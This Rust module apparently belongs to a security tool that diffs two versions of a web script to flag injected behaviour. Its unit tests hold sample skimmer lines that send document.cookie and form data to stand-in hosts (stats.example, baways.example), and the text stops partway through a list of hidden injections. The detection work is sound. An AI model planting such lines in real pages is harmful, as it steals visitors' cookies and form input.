//! Behavioural diff of two versions of a script.
//!
//! Equal normalised hashes mean no behaviour changed: reformatting, renamed locals, new
//! comments, other literals and re-minification are all silent.
//!
//! When the hashes differ, the diff counts what each version *names*: every global, member
//! or property name, URL host, kept string and code-string digest, and every call. A new
//! version that names something more often than the old one did (as served, or as oxc's
//! compressor rewrites it) changed behaviour: injected code that does anything at all reads
//! a global or a member, or calls something, so it adds at least one occurrence even when it
//! only reuses what the library already has (see [`touches_new_names`]).
//!
//! A new version that names nothing more often gets a second opinion (the slow path, taken
//! only for a changed script): both versions are compressed by oxc's compressor and
//! normalised again ([`canonical`]). If the compressed forms hash the same, the change is
//! cosmetic (another build's minifier: inlined single-use functions, merged loop guards,
//! optional chaining) and the diff says so with `converged_after_compression`. If they
//! still differ, the change is *restructured*: code was moved, merged, inlined, dropped or
//! rewritten, but nothing new is read, written or called — what a different minifier does
//! (terser's hoisted object properties and collapsed variables have no counterpart in oxc).
//! A restructured version is recorded with its differing units and raises no alert; the
//! blind spot is deliberate and documented: an edit that only rewires operators, literals or
//! control flow between calls the script already makes is not called a behaviour change.
//!
//! The counts use the served text as well as the compressed one because the compressor is
//! trusted to drop only code that cannot run, and it assumes `valueOf` and `toString` are
//! pure: an injected `({valueOf(){steal()}}) == 1` vanishes from its output, but not the
//! names it uses from the served text. An old version too big for the compressor
//! ([`canonical::MAX_CANONICAL_BYTES`]), or one it cannot compress, is counted as served.
//!
//! Calls are counted together, whatever they call: a minifier that inlines a function
//! removes its calls, and a call of the script's own function added in the same change can
//! hide in that slack. Such an addition names nothing (no global, member or host), so it
//! can only run code the script already has, with data it already holds. Names written more
//! often are accepted when copies of the old version's small functions into their callers
//! explain them and the calls those copies replace are gone ([`explained_by_inlining`]):
//! slack of the same kind, bounded by the calls removed.
//!
//! Otherwise the two multisets of unit hashes are compared. Units only in the new version
//! are *added*; among them, those that still contain known code (a library function that
//! gained three lines) are *modified containers* and are not listed themselves, while the
//! outermost wholly new units are: the appended skimmer function, the injected statement. Removed units are found the same way
//! in the other direction. Hosts and APIs are compared as sets.

use std::collections::HashMap;

use oxc_ast::AstType;

use serde::Serialize;

use super::fingerprint::short_hex;
use super::normalize::{is_leaf, Packed, Tok, UnitKind};
use super::signals::{self, SINKS};
use super::{analyse, canonical, excerpt, line_of, Analysis, Family, Parsed};

/// Units smaller than this (in normalised tokens) are too common (`return a;`) to count as
/// evidence that a new unit is an old one modified.
const MIN_EVIDENCE_TOKENS: usize = 12;

/// Longest excerpt of an added or removed unit, in characters.
pub const EXCERPT_CHARS: usize = 160;

/// Most added (or removed) units listed; the counts stay exact.
pub const MAX_LISTED: usize = 50;

/// What `parapet scripts diff` prints.
#[derive(Debug, Clone, Serialize)]
pub struct ScriptDiff {
    /// The old file as given.
    pub old: String,
    /// The new file as given.
    pub new: String,
    /// Whether behaviour changed: normalised hashes differ and the new version names or calls
    /// something more often than the old one did (or, when a side did not parse, raw hashes
    /// differ).
    pub behaviour_changed: bool,
    /// The normalised hashes differ but both versions, compressed by oxc's compressor, hash
    /// the same and the new one names nothing more often than the old did: a cosmetic change
    /// the normaliser alone does not undo (another build's minifier). `behaviour_changed` is
    /// then false, and the hashes below are those of the versions as served.
    pub converged_after_compression: bool,
    /// The normalised hashes differ, and so do the compressed forms, but the new version
    /// names and calls nothing more often than the old one did: code moved, merged, inlined
    /// or dropped. `behaviour_changed` is then false; the differing units are listed.
    pub restructured: bool,
    /// Both sides parsed, so the comparison is by behaviour, not by bytes.
    pub comparable: bool,
    /// Why a side did not parse.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub errors: Vec<String>,
    /// Normalised hash of the old version.
    pub old_hash: Option<String>,
    /// Normalised hash of the new version.
    pub new_hash: Option<String>,
    /// Families of both sides.
    pub old_family: Option<Family>,
    /// Families of both sides.
    pub new_family: Option<Family>,
    /// Every unit hash only in the new version, containers included.
    pub added_units: usize,
    /// Every unit hash only in the old version, containers included.
    pub removed_units: usize,
    /// The outermost wholly new units (at most [`MAX_LISTED`]).
    pub added: Vec<Change>,
    /// The outermost wholly removed units (at most [`MAX_LISTED`]).
    pub removed: Vec<Change>,
    /// Network sinks the new version uses and the old did not.
    pub new_sinks: Vec<String>,
    /// Notable APIs the new version uses and the old did not.
    pub new_apis: Vec<String>,
    /// Notable APIs the old version used and the new does not.
    pub removed_apis: Vec<String>,
    /// URL hosts the new version names and the old did not.
    pub new_hosts: Vec<String>,
    /// URL hosts the old version named and the new does not.
    pub removed_hosts: Vec<String>,
}

/// One added or removed unit.
#[derive(Debug, Clone, Serialize)]
pub struct Change {
    /// Function or statement.
    pub kind: UnitKind,
    /// 1-based line in its version.
    pub line: usize,
    /// Its unit hash.
    pub hash: String,
    /// The start of its source, on one line.
    pub excerpt: String,
    /// Notable APIs inside.
    pub apis: Vec<String>,
    /// URL hosts inside.
    pub hosts: Vec<String>,
}

impl ScriptDiff {
    /// Compares two analysed versions.
    pub fn between(old_name: &str, old: &Analysis<'_>, new_name: &str, new: &Analysis<'_>) -> Self {
        let mut d = ScriptDiff {
            old: old_name.to_owned(),
            new: new_name.to_owned(),
            behaviour_changed: old.sha256 != new.sha256,
            converged_after_compression: false,
            restructured: false,
            comparable: false,
            errors: Vec::new(),
            old_hash: None,
            new_hash: None,
            old_family: old.family.clone(),
            new_family: new.family.clone(),
            added_units: 0,
            removed_units: 0,
            added: Vec::new(),
            removed: Vec::new(),
            new_sinks: Vec::new(),
            new_apis: Vec::new(),
            removed_apis: Vec::new(),
            new_hosts: Vec::new(),
            removed_hosts: Vec::new(),
        };
        for (name, a) in [(old_name, old), (new_name, new)] {
            if let Err(e) = &a.outcome {
                d.errors.push(format!("{name}: {e}"));
            }
        }
        let (Ok(po), Ok(pn)) = (&old.outcome, &new.outcome) else {
            return d;
        };
        d.comparable = true;
        d.old_hash = Some(po.normalized_hash.clone());
        d.new_hash = Some(pn.normalized_hash.clone());
        d.behaviour_changed = po.normalized_hash != pn.normalized_hash;
        if !d.behaviour_changed {
            return d;
        }
        match second_opinion(old, po, new, pn) {
            Opinion::NamesMore => {}
            Opinion::Converged => {
                d.behaviour_changed = false;
                d.converged_after_compression = true;
                return d;
            }
            Opinion::Restructured => {
                d.behaviour_changed = false;
                d.restructured = true;
            }
        }
        let (added, added_count) = only_in(pn, po, new.source);
        let (removed, removed_count) = only_in(po, pn, old.source);
        d.added = added;
        d.removed = removed;
        d.added_units = added_count;
        d.removed_units = removed_count;
        let (old_apis, new_apis) = (po.apis(), pn.apis());
        d.new_apis = minus(&new_apis, &old_apis);
        d.removed_apis = minus(&old_apis, &new_apis);
        d.new_sinks = d
            .new_apis
            .iter()
            .filter(|a| signals::name_signals(a) & SINKS != 0)
            .cloned()
            .collect();
        let (old_hosts, new_hosts) = (po.hosts(), pn.hosts());
        d.new_hosts = minus(&new_hosts, &old_hosts);
        d.removed_hosts = minus(&old_hosts, &new_hosts);
        d
    }

    /// A short human-readable report.
    pub fn to_text(&self) -> String {
        use std::fmt::Write as _;
        let mut s = String::new();
        let verdict = if self.behaviour_changed {
            "behaviour changed"
        } else {
            "no behaviour change"
        };
        let _ = writeln!(s, "{} -> {}: {verdict}", self.old, self.new);
        for e in &self.errors {
            let _ = writeln!(s, "  not parsed: {e}");
        }
        if self.converged_after_compression {
            let _ = writeln!(
                s,
                "  (the same once both are compressed: a cosmetic change)"
            );
        }
        if self.restructured {
            let _ = writeln!(
                s,
                "  (restructured: nothing is named or called more often than before)"
            );
        }
        if !self.behaviour_changed && !self.restructured {
            return s;
        }
        let _ = writeln!(
            s,
            "  units: {} added, {} removed",
            self.added_units, self.removed_units
        );
        for (label, list) in [("+", &self.added), ("-", &self.removed)] {
            for c in list {
                let kind = match c.kind {
                    UnitKind::Function => "function",
                    UnitKind::Statement => "statement",
                };
                let _ = writeln!(s, "  {label} {kind} at line {}: {}", c.line, c.excerpt);
            }
        }
        for (label, list) in [
            ("new sinks", &self.new_sinks),
            ("new APIs", &self.new_apis),
            ("new hosts", &self.new_hosts),
            ("removed hosts", &self.removed_hosts),
        ] {
            if !list.is_empty() {
                let _ = writeln!(s, "  {label}: {}", list.join(", "));
            }
        }
        s
    }
}

/// What the diff makes of two versions whose normalised hashes differ.
enum Opinion {
    /// The new version names or calls something more often: a behaviour change.
    NamesMore,
    /// Nothing more often, and the compressed forms hash the same: cosmetic.
    Converged,
    /// Nothing more often, but the compressed forms differ.
    Restructured,
}

/// The second opinion on two versions whose normalised hashes differ.
fn second_opinion(old: &Analysis<'_>, po: &Parsed, new: &Analysis<'_>, pn: &Parsed) -> Opinion {
    with_old_forms(old, po, |olds| {
        // Most real changes name something more often: judged before the new version is
        // compressed, which then is not needed.
        if touches_new_names(olds, pn) {
            return Opinion::NamesMore;
        }
        let converged = olds.get(1).is_some_and(|ca| {
            canonical::compressed(new.source).is_some_and(|text| {
                matches!(&analyse(&text).outcome, Ok(cb) if cb.normalized_hash == ca.normalized_hash)
            })
        });
        if converged {
            Opinion::Converged
        } else {
            Opinion::Restructured
        }
    })
}

/// Calls `f` with the old version as served and, when oxc's compressor takes it, as
/// compressed (in that order).
fn with_old_forms<R>(old: &Analysis<'_>, po: &Parsed, f: impl FnOnce(&[&Parsed]) -> R) -> R {
    let text = canonical::compressed(old.source);
    let compressed = text.as_deref().map(analyse);
    let olds: Vec<&Parsed> = std::iter::once(po)
        .chain(compressed.as_ref().and_then(|a| a.outcome.as_ref().ok()))
        .collect();
    f(&olds)
}

/// Whether the new version's normalised form names something more often than the old one's:
/// a global, a member or property name, a URL host, a kept string or the digest of a code
/// string (the words the normaliser keeps; operators and the words it uses for the tree's
/// shape do not count), or makes more calls (`f()`, `new F()`, tagged templates, counted
/// together under [`CALLS`]).
///
/// A minifier writes those names no more often than the original did: it drops dead code,
/// inlines single-use functions and merges statements, but it does not invent a reference to
/// `document` or `.cookie`. Injected code that does anything at all names something — a
/// global, a member, a property key such as `valueOf` — or calls one of the script's own
/// functions, so it adds at least one occurrence even when it only reuses what the library
/// already has.
///
/// The compressor itself writes a few names (`"a b c".split(" ")` for an array of strings,
/// `.slice` for `.substring`, `NaN` for `0/0`), so the old version compressed counts as well:
/// a name may occur as often as in either form of the old version.
///
/// Names written more often can still be a minifier's: one that copies a small local
/// function into each place it is called (swc and uglify-js do) writes the body's names once
/// per copy. That is accepted only with the evidence such a copy leaves: each copy removes
/// the call it replaces (see [`explained_by_inlining`]).
fn touches_new_names(olds: &[&Parsed], new: &Parsed) -> bool {
    let old_counts: Vec<HashMap<&str, usize>> = olds.iter().map(|p| name_counts(p)).collect();
    let new_counts = name_counts(new);
    let more = more_often(&old_counts, &new_counts);
    let calls = |c: &HashMap<&str, usize>| c.get(CALLS).copied().unwrap_or(0);
    !more.is_empty()
        && !olds
            .first()
            .zip(old_counts.first())
            .is_some_and(|(old, counts)| {
                explained_by_inlining(old, &more, calls(counts), calls(&new_counts))
            })
}

/// Largest function (in normalised tokens) [`explained_by_inlining`] considers copied.
const MAX_INLINED_TOKENS: usize = 256;

/// Most distinct names, and most occurrences in all, that [`explained_by_inlining`] explains
/// by copies: what the corpus's inlined builds need is a few dozen.
const MAX_COPIED_NAMES: usize = 64;
const MAX_COPIED_OCCURRENCES: usize = 4096;

/// Whether every name the new version writes more often than `old` (`more`: name, old
/// count, new count) can come from copying small local functions of `old` into the places
/// that call them, with the calls that copying removes gone from the new version (`old_calls`
/// and `new_calls` are the two versions' calls).
///
/// Copies are chosen greedily, one at a time, from the local functions of at most
/// [`MAX_INLINED_TOKENS`] tokens called by their name at least twice (at most one copy per
/// call but one, as the function itself stays), each time the function whose copy supplies
/// most of what is still missing. A copy writes its body's names, and the strings shaped
/// like names that one call passes (each call's once), which the copy may turn into member
/// names (`H[e] = t` called as `F("date", 9)` becomes `H.date = 9`). Then `new` must make no
/// more calls than `old` less one per copy plus the calls the copied bodies make: a real
/// change that adds code adds calls, an inlined build has fewer.
fn explained_by_inlining(
    old: &Parsed,
    more: &[(&str, usize, usize)],
    old_calls: usize,
    new_calls: usize,
) -> bool {
    let missing_names: Vec<(&str, usize)> = more
        .iter()
        .filter(|(name, _, _)| *name != CALLS)
        .map(|&(name, o, n)| (name, n - o))
        .collect();
    // The bounds keep the greedy choice below cheap on a hostile version that repeats a
    // name a million times: it makes at most one copy per missing occurrence.
    let occurrences: usize = missing_names.iter().map(|m| m.1).sum();
    if missing_names.is_empty()
        || missing_names.len() > MAX_COPIED_NAMES
        || occurrences > MAX_COPIED_OCCURRENCES
    {
        return false;
    }
    let mut missing: Vec<usize> = missing_names.iter().map(|m| m.1).collect();
    let slot: HashMap<&str, usize> = missing_names
        .iter()
        .enumerate()
        .map(|(i, m)| (m.0, i))
        .collect();
    let toks = &old.norm.toks;
    let (functions, calls_of) = local_functions(toks);
    /// A function that may have been copied.
    struct Candidate {
        /// Copies it may still have made.
        left: usize,
        /// What one copy's body writes of what is missing: (slot, count).
        supplies: Vec<(usize, usize)>,
        /// What each call not yet copied passes of what is missing, as strings: (slot, count).
        sites: Vec<Vec<(usize, usize)>>,
        /// Calls one copy makes.
        calls: usize,
    }
    // The strings each call passes, by the called function's symbol.
    let mut sites_of: HashMap<u32, Vec<Vec<(usize, usize)>>> = HashMap::new();
    for (symbol, strings) in &old.norm.call_strings {
        let mut site: Vec<(usize, usize)> = Vec::new();
        for s in strings {
            if let Some(&i) = slot.get(s.as_str()) {
                match site.iter_mut().find(|e| e.0 == i) {
                    Some(e) => e.1 += 1,
                    None => site.push((i, 1)),
                }
            }
        }
        if !site.is_empty() {
            sites_of.entry(*symbol).or_default().push(site);
        }
    }
    let mut candidates: Vec<Candidate> = Vec::new();
    let mut counts = vec![0usize; old.norm.atoms.len() + 1];
    for f in functions {
        let k = calls_of.get(&f.symbol).copied().unwrap_or(0);
        if k < 2 || f.size > MAX_INLINED_TOKENS {
            continue;
        }
        counts.iter_mut().for_each(|c| *c = 0);
        count_names(&toks[f.start..f.end], &mut counts);
        let supplies: Vec<(usize, usize)> = old
            .norm
            .atoms
            .iter()
            .zip(&counts)
            .filter(|(_, c)| **c > 0)
            .filter_map(|(a, c)| slot.get(a).map(|&i| (i, *c)))
            .collect();
        let sites = sites_of.remove(&f.symbol).unwrap_or_default();
        if !supplies.is_empty() || !sites.is_empty() {
            candidates.push(Candidate {
                left: k - 1,
                supplies,
                sites,
                calls: counts.last().copied().unwrap_or(0),
            });
        }
    }
    let (mut copies, mut copied_calls) = (0usize, 0usize);
    while missing.iter().any(|m| *m > 0) {
        let supplied = |supplies: &[(usize, usize)]| -> usize {
            supplies.iter().map(|&(i, n)| n.min(missing[i])).sum()
        };
        // A copy's gain, and the call it best copies (the index of its site).
        let gain = |c: &Candidate| -> (usize, Option<usize>) {
            if c.left == 0 {
                return (0, None);
            }
            let site = c
                .sites
                .iter()
                .enumerate()
                .map(|(j, s)| (j, supplied(s)))
                .filter(|&(_, g)| g > 0)
                .max_by_key(|&(_, g)| g);
            (
                supplied(&c.supplies) + site.map_or(0, |s| s.1),
                site.map(|s| s.0),
            )
        };
        let Some((best, _, site)) = candidates
            .iter()
            .enumerate()
            .map(|(i, c)| {
                let (g, site) = gain(c);
                (i, g, site)
            })
            .filter(|&(_, g, _)| g > 0)
            .max_by_key(|&(_, g, _)| g)
        else {
            return false;
        };
        let c = &mut candidates[best];
        c.left -= 1;
        let site = site.map(|j| c.sites.swap_remove(j)).unwrap_or_default();
        for &(i, n) in c.supplies.iter().chain(&site) {
            missing[i] = missing[i].saturating_sub(n);
        }
        copies += 1;
        copied_calls += c.calls;
    }
    new_calls + copies <= old_calls + copied_calls
}

/// The name under which calls are counted (no script can write it: it has a space).
pub const CALLS: &str = "calls ()";

/// The names (see [`touches_new_names`]) the new version writes more often than the old
/// one, as served or compressed, with the most either form writes and the new count: why a
/// change was judged a behaviour change.
pub fn names_more_often(old: &Analysis<'_>, new: &Analysis<'_>) -> Vec<(String, usize, usize)> {
    let (Ok(po), Ok(pn)) = (&old.outcome, &new.outcome) else {
        return Vec::new();
    };
    let mut out: Vec<(String, usize, usize)> = with_old_forms(old, po, |olds| {
        let old_counts: Vec<HashMap<&str, usize>> = olds.iter().map(|p| name_counts(p)).collect();
        more_often(&old_counts, &name_counts(pn))
            .into_iter()
            .map(|(name, o, n)| (name.to_owned(), o, n))
            .collect()
    });
    out.sort();
    out
}

/// The names `new` counts more often than every one of `olds` does (counts by
/// [`name_counts`]), with the most any of them counts and the new count.
fn more_often<'a>(
    olds: &[HashMap<&str, usize>],
    new: &HashMap<&'a str, usize>,
) -> Vec<(&'a str, usize, usize)> {
    new.iter()
        .filter_map(|(&name, &n)| {
            let o = olds
                .iter()
                .map(|c| c.get(name).copied().unwrap_or(0))
                .max()
                .unwrap_or(0);
            (o < n).then_some((name, o, n))
        })
        .collect()
}

/// Words the normaliser writes for the shape of the tree, not for something the script
/// names: a minifier may write more of them (`function` for an inlined arrow, `undefined`
/// for a `return` with no value).
const SHAPE_WORDS: &[&str] = &[
    "true",
    "false",
    "undefined",
    "label",
    "prefix",
    "postfix",
    "function",
    "generator",
    "async",
    "arrow",
    "async-arrow",
    "constructor",
    "method",
    "get",
    "set",
    "typeof",
    "void",
    "delete",
    "in",
    "instanceof",
];

/// How often each name (see [`touches_new_names`]) occurs in a normalised stream, calls
/// included.
///
/// The keys of object literals do not count: `{ hooks: [] }` names nothing on the page
/// until something reads or writes a member (counted) or passes the object to a call
/// (counted), and minifiers copy such literals when they inline a small function that
/// returns one at each place it is called.
fn name_counts(p: &Parsed) -> HashMap<&str, usize> {
    let mut counts = vec![0usize; p.norm.atoms.len() + 1];
    count_names(&p.norm.toks, &mut counts);
    let mut out: HashMap<&str, usize> = p
        .norm
        .atoms
        .iter()
        .zip(&counts)
        .filter(|(a, n)| **n > 0 && is_name(a))
        .map(|(a, n)| (a, *n))
        .collect();
    if let Some(&calls) = counts.last().filter(|c| **c > 0) {
        out.insert(CALLS, calls);
    }
    out
}

/// Adds to `counts` (one slot per atom, the last for calls) every atom and call in `toks`,
/// but the keys of object literals (see [`name_counts`]).
fn count_names(toks: &[Packed], counts: &mut [usize]) {
    const CALL: u8 = AstType::CallExpression as u8;
    const NEW: u8 = AstType::NewExpression as u8;
    const TAGGED: u8 = AstType::TaggedTemplateExpression as u8;
    const PROPERTY: u8 = AstType::ObjectProperty as u8;
    const KEY: u8 = AstType::IdentifierName as u8;
    /// Where the walk is relative to an object literal's key.
    #[derive(PartialEq)]
    enum At {
        Elsewhere,
        Property,
        Key,
    }
    let Some(calls) = counts.len().checked_sub(1) else {
        return;
    };
    let mut at = At::Elsewhere;
    for t in toks {
        let tok = t.tok();
        at = match (at, tok) {
            (_, Tok::Open(PROPERTY)) => At::Property,
            // `get`/`set` come before the key.
            (At::Property, Tok::Atom(_)) => At::Property,
            (At::Property, Tok::Open(KEY)) => At::Key,
            (At::Key, Tok::Atom(_)) => {
                at = At::Elsewhere;
                continue;
            }
            _ => At::Elsewhere,
        };
        match tok {
            Tok::Atom(id) if (id as usize) < calls => counts[id as usize] += 1,
            Tok::Open(CALL | NEW | TAGGED) => counts[calls] += 1,
            _ => {}
        }
    }
}

/// A local function bound to a name, and its tokens.
struct LocalFunction {
    symbol: u32,
    start: usize,
    end: usize,
    /// Its size, as [`Unit::size`](super::normalize::Unit::size) counts.
    size: usize,
}

/// The local functions bound to a name (`function f(){}`, `var f = function(){}` or an
/// arrow), and how often each symbol is called by its name.
fn local_functions(toks: &[Packed]) -> (Vec<LocalFunction>, HashMap<u32, usize>) {
    const FUNCTION: u8 = AstType::Function as u8;
    const BINDING: u8 = AstType::BindingIdentifier as u8;
    const REFERENCE: u8 = AstType::IdentifierReference as u8;
    const CALL: u8 = AstType::CallExpression as u8;
    let at = |i: usize| toks.get(i).map(|t| t.tok());
    let mut functions = Vec::new();
    let mut calls: HashMap<u32, usize> = HashMap::new();
    // Open nodes: where each starts, the symbol of a named function, and the leaves before.
    let mut open: Vec<(usize, Option<u32>, usize)> = Vec::new();
    let mut leaves = 0;
    for (i, t) in toks.iter().enumerate() {
        match t.tok() {
            Tok::Open(FUNCTION) => {
                // `function f` writes its kind, then the name; `var f = function` has the
                // name just before.
                let declared = match (at(i + 1), at(i + 2), at(i + 3)) {
                    (Some(Tok::Atom(_)), Some(Tok::Open(BINDING)), Some(Tok::Sym(s))) => Some(s),
                    _ => None,
                };
                let bound = match (i.checked_sub(2).and_then(at), i.checked_sub(1).and_then(at)) {
                    (Some(Tok::Open(BINDING)), Some(Tok::Sym(s))) => Some(s),
                    _ => None,
                };
                open.push((i, declared.or(bound), leaves));
            }
            Tok::Open(ty) if is_leaf(ty) => leaves += 1,
            Tok::Open(ty) => {
                if ty == CALL {
                    if let (Some(Tok::Open(REFERENCE)), Some(Tok::Sym(s))) = (at(i + 1), at(i + 2))
                    {
                        *calls.entry(s).or_default() += 1;
                    }
                }
                open.push((i, None, leaves));
            }
            Tok::Close => {
                if let Some((start, Some(symbol), before)) = open.pop() {
                    functions.push(LocalFunction {
                        symbol,
                        start,
                        end: i + 1,
                        size: i + 1 - start + leaves - before,
                    });
                }
            }
            _ => {}
        }
    }
    (functions, calls)
}

fn is_name(atom: &str) -> bool {
    atom.bytes()
        .any(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
        && !SHAPE_WORDS.contains(&atom)
}

/// Which units of `a` the unit-hash multiset of `b` lacks: the listed outermost wholly new
/// ones, and the count of all.
pub(crate) fn only_in(a: &Parsed, b: &Parsed, source: &str) -> (Vec<Change>, usize) {
    let flags = new_units(a, b);
    let mut listed = Vec::new();
    let mut count = 0;
    for (i, u) in a.norm.units.iter().enumerate() {
        let f = flags[i];
        if !f.new {
            continue;
        }
        count += 1;
        if !f.reported {
            continue;
        }
        if listed.len() < MAX_LISTED {
            let text = source
                .get(u.span.start as usize..u.span.end as usize)
                .unwrap_or_default();
            listed.push(Change {
                kind: u.kind,
                line: line_of(source, u.span.start),
                hash: short_hex(a.unit_hashes[i]),
                excerpt: excerpt(text, EXCERPT_CHARS),
                apis: u.apis.iter().map(|&x| a.norm.atom(x).to_owned()).collect(),
                hosts: u.hosts.iter().map(|&x| a.norm.atom(x).to_owned()).collect(),
            });
        }
    }
    (listed, count)
}

#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct UnitFlags {
    /// The unit's hash is not in the other version (as a multiset).
    pub new: bool,
    /// It still contains a sizeable known unit: old code, modified.
    pub has_old_inside: bool,
    /// Outermost wholly new unit.
    pub reported: bool,
}

/// Marks every unit of `a` against the multiset of `b`.
pub(crate) fn new_units(a: &Parsed, b: &Parsed) -> Vec<UnitFlags> {
    let mut available: HashMap<u64, usize> = HashMap::new();
    for h in &b.unit_hashes {
        *available.entry(*h).or_default() += 1;
    }
    let mut flags: Vec<UnitFlags> = a
        .unit_hashes
        .iter()
        .map(|h| {
            let new = match available.get_mut(h) {
                Some(n) if *n > 0 => {
                    *n -= 1;
                    false
                }
                _ => true,
            };
            UnitFlags {
                new,
                ..UnitFlags::default()
            }
        })
        .collect();
    // Units are in pre-order (a parent before its children): walk backwards to lift
    // "contains old code" to the parents.
    for i in (0..a.norm.units.len()).rev() {
        let u = &a.norm.units[i];
        let evidence =
            (!flags[i].new && u.size() >= MIN_EVIDENCE_TOKENS) || flags[i].has_old_inside;
        if let Some(p) = u.parent {
            if evidence {
                flags[p].has_old_inside = true;
            }
        }
    }
    for i in 0..a.norm.units.len() {
        let f = flags[i];
        let parent_covers = a.norm.units[i]
            .parent
            .is_some_and(|p| flags[p].new && !flags[p].has_old_inside);
        flags[i].reported = f.new && !f.has_old_inside && !parent_covers;
    }
    flags
}

/// The innermost units of `new` whose hashes `old` lacks (new units with no new unit inside
/// them), at most `max`, with excerpts: where two versions really differ, for telling why a
/// rewrite was judged a behaviour change.
pub fn innermost_added(old: &Analysis<'_>, new: &Analysis<'_>, max: usize) -> Vec<Change> {
    let (Ok(po), Ok(pn)) = (&old.outcome, &new.outcome) else {
        return Vec::new();
    };
    let flags = new_units(pn, po);
    let units = &pn.norm.units;
    let mut has_new_child = vec![false; units.len()];
    for (i, u) in units.iter().enumerate() {
        if let Some(p) = u.parent.filter(|_| flags[i].new) {
            has_new_child[p] = true;
        }
    }
    units
        .iter()
        .enumerate()
        .filter(|&(i, _)| flags[i].new && !has_new_child[i])
        .take(max)
        .map(|(i, u)| {
            let text = new
                .source
                .get(u.span.start as usize..u.span.end as usize)
                .unwrap_or_default();
            Change {
                kind: u.kind,
                line: line_of(new.source, u.span.start),
                hash: short_hex(pn.unit_hashes[i]),
                excerpt: excerpt(text, EXCERPT_CHARS),
                apis: u.apis.iter().map(|&x| pn.norm.atom(x).to_owned()).collect(),
                hosts: u
                    .hosts
                    .iter()
                    .map(|&x| pn.norm.atom(x).to_owned())
                    .collect(),
            }
        })
        .collect()
}

fn minus(a: &[String], b: &[String]) -> Vec<String> {
    a.iter().filter(|x| !b.contains(x)).cloned().collect()
}

#[cfg(test)]
mod tests {
    use super::super::analyse;
    use super::*;

    const LIB: &str = r#"
        (function (root) {
            function each(list, fn) { for (var i = 0; i < list.length; i++) { fn(list[i], i); } }
            function map(list, fn) { var out = []; each(list, function (x, i) { out.push(fn(x, i)); }); return out; }
            function ready(fn) { if (document.readyState !== "loading") { fn(); } else { document.addEventListener("DOMContentLoaded", fn); } }
            root.lib = { each: each, map: map, ready: ready };
        })(window);
    "#;

    #[test]
    fn cosmetic_change_is_not_behaviour() {
        let minified = "!function(n){function e(n,e){for(var t=0;t<n.length;t++)e(n[t],t)}n.lib={each:e,map:function(n,t){var o=[];return e(n,function(n,e){o.push(t(n,e))}),o},ready:function(n){\"loading\"!==document.readyState?n():document.addEventListener(\"DOMContentLoaded\",n)}}}(window);";
        let (a, b) = (analyse(LIB), analyse(minified));
        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
        assert!(d.comparable);
        // Inlining functions into an object literal is a real restructuring, which a
        // minifier may do; the diff must at least not invent hosts or sinks.
        assert!(d.new_hosts.is_empty() && d.new_sinks.is_empty(), "{d:?}");
        let renamed = LIB.replace("list", "arr").replace("out", "acc");
        let d = ScriptDiff::between("a.js", &a, "c.js", &analyse(&renamed));
        assert!(!d.behaviour_changed, "{}", d.to_text());
        assert!(d.added.is_empty() && d.removed.is_empty());
    }

    #[test]
    fn injected_code_inside_a_function_is_listed_alone() {
        let injected = LIB.replace(
            "root.lib = {",
            "var img = new Image(); img.src = \"https://stats.example/c?d=\" + btoa(document.cookie);\n root.lib = {",
        );
        let (a, b) = (analyse(LIB), analyse(&injected));
        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
        assert!(d.behaviour_changed);
        assert_eq!(d.new_hosts, vec!["stats.example".to_owned()]);
        assert!(
            d.new_sinks.contains(&"Image".to_owned()),
            "{:?}",
            d.new_sinks
        );
        // `var img = new Image(); img.src = ...` is one statement once `img` is inlined.
        assert_eq!(d.added.len(), 1, "the injected statement: {:#?}", d.added);
        assert_eq!(d.added[0].kind, UnitKind::Statement);
        assert!(d.added[0].excerpt.contains("stats.example"));
        assert!(
            d.added[0].apis.contains(&"Image".to_owned()),
            "{:?}",
            d.added[0].apis
        );
        assert!(d.removed.is_empty(), "{:#?}", d.removed);
    }

    #[test]
    fn an_appended_function_is_listed_with_its_host() {
        let appended = format!(
            "{LIB}\nwindow.onload = function () {{ var f = document.forms[0]; fetch(\"https://baways.example/api\", {{ method: \"POST\", body: new FormData(f) }}); }};"
        );
        let d = ScriptDiff::between("a.js", &analyse(LIB), "b.js", &analyse(&appended));
        assert!(d.behaviour_changed);
        assert_eq!(d.added.len(), 1, "{:#?}", d.added);
        assert_eq!(d.added[0].hosts, vec!["baways.example".to_owned()]);
        assert!(d.new_sinks.contains(&"fetch".to_owned()));
        assert!(d.to_text().contains("baways.example"));
    }

    /// What a rebuild by another minifier does that the normaliser does not undo: a loop
    /// whose body is only `if(c)break` merged into the loop test, `null==x?void 0:x.y` as
    /// `x?.y`.
    const REBUILT: &str = "!function(n){function e(n,t){for(var o=0;o<n.length&&!1!==t(n[o],o);o++);}function u(n){return n?.value}n.lib={each:e,get:u}}(window);";
    const SOURCE: &str = r#"
        (function (root) {
            function each(list, fn) {
                for (var i = 0; i < list.length; i++) {
                    if (fn(list[i], i) === false) break;
                }
            }
            function get(box) { return box == null ? void 0 : box.value; }
            root.lib = { each: each, get: get };
        })(window);
    "#;

    #[test]
    fn a_rebuild_by_another_minifier_converges_after_compression() {
        let (a, b) = (analyse(SOURCE), analyse(REBUILT));
        let (Ok(pa), Ok(pb)) = (&a.outcome, &b.outcome) else {
            panic!("both parse");
        };
        assert_ne!(
            pa.normalized_hash, pb.normalized_hash,
            "the fast path differs"
        );
        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
        assert!(!d.behaviour_changed, "{}", d.to_text());
        assert!(d.converged_after_compression);
        assert!(d.to_text().contains("compressed"), "{}", d.to_text());
        let json = serde_json::to_value(&d).unwrap_or_default();
        assert_eq!(json["converged_after_compression"], true);
        // A real change to the same rebuild is still one.
        let changed = REBUILT.replace("n?.value", "n?.title");
        let d = ScriptDiff::between("a.js", &a, "c.js", &analyse(&changed));
        assert!(d.behaviour_changed && !d.converged_after_compression);
    }

    /// Inserts `code` at the start of the library's function body.
    fn injected(code: &str) -> String {
        SOURCE.replace(
            "function (root) {",
            &format!("function (root) {{\n{code}\n"),
        )
    }

    /// The compressed form keeps what was injected.
    fn compressed_differs(code: &str) -> bool {
        let hash = |src: &str| {
            canonical::compressed(src)
                .and_then(|c| analyse(&c).outcome.ok().map(|p| p.normalized_hash))
        };
        let (clean, dirty) = (hash(SOURCE), hash(&injected(code)));
        clean.is_some() && clean != dirty
    }

    /// Injections a compressor might think it can drop, but that run in a browser.
    const HIDDEN: &[&str] = &[
